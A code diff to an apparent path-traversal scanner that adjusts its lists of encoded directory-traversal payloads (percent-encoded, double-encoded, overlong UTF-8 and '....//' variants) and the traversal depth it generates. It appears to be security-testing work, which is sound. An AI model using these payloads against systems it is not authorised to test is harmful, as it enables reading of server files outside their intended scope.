@@ -67,9 +67,9 @@ WINDOWS = (
 )
 UNIX_SEGMENT = (
     Technique("{up}{path}", raw=True),
-    Technique("{up}{path}", up="..%2f", slash="%2f", raw=True),
+    Technique("{up}{path}", up="%2e%2e%2f", slash="%2f", raw=True),
     Technique("{up}{path}", up="%2e%2e/", raw=True),
-    Technique("{up}{path}", up="..%252f", slash="%252f", raw=True),
+    Technique("{up}{path}", up="%252e%252e%252f", slash="%252f", raw=True),
     Technique("{up}{path}", up="....//", raw=True),
     Technique("{up}{path}", up="..%c0%af", slash="%c0%af", raw=True),
     Technique("%2f{path}", slash="%2f", raw=True),
@@ -136,12 +136,12 @@ def _files(point: InputPoint) -> Sequence[tuple[Signature, str, Sequence[Techniq
 
 def _spelling(technique: Technique, value: str, path: str, fresh: Fresh) -> Spelling:
     """The attack; a made-up file spelt the same way; and the path's words, which a search would find."""
-    depth = 8 + fresh.number(1) % 6
+    depth = 10 + fresh.number(1) % 6
 
     def write(name: str) -> str:
         return technique.form.format(
             up=technique.up * depth,
-            stay="./" * (depth - 6),
+            stay="./" * (depth - 8),
             folder=f"{value.rpartition('/')[0] or value}/",
             ext="." + (value.rpartition(".")[2] if "." in value else "html"),
             path=name.replace("/", technique.slash),
